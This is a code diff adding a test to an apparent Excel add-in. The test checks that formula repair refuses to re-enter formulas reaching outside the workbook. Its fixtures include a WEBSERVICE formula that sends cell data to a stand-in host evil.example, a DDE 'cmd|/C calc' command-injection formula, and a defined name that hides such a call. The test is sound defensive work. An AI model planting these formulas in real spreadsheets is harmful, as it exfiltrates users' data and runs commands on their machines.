@@ -96,6 +96,23 @@ it("names protected sheets and what Excel refuses, and repairs the others", asyn
   expect(book.formulasOf()).toEqual({ A1: QUARTER, A2: stored(QUARTER), A3: QUARTER });
 });
 
+it.each([
+  ['=INASTI.QUARTERLY(WEBSERVICE("https://evil.example/?"&A1))', "WEBSERVICE"],
+  ["=Evil.xla!_xldudf_INASTI_QUARTERLY(1)&cmd|'/C calc'!A0", "|"],
+  ["=_xldudf_INASTI_QUARTERLY([Book2.xlsx]Sheet1!A1)", "[Book2.xlsx]Sheet1!"],
+  ["=_xldudf_INASTI_QUARTERLY(Through)", "Through"],
+])("enters nothing again that reaches outside the workbook, and names the part: %s", async (formula, part) => {
+  book.names.set("Secret", '=WEBSERVICE("https://evil.example")');
+  book.names.set("Through", "=Secret");
+  typeWithoutUs({ A1: formula, A2: QUARTER });
+  const before = book.formulasOf()["A1"];
+  const plan = await planRepair(excelHost, false, {});
+  expect(plan.cells.map(({ address }) => address)).toEqual(["A2"]);
+  expect(plan.left).toEqual([{ sheet: "Sheet1", address: "A1", reason: "outside", part }]);
+  expect((await repairAll()).done).toBe(1);
+  expect(book.formulasOf()["A1"]).toBe(before);
+});
+
 it("says which cells still name what Excel does not know", async () => {
   typeWithoutUs({ A1: QUARTER, A2: TYPO });
   const ending = await repairAll();
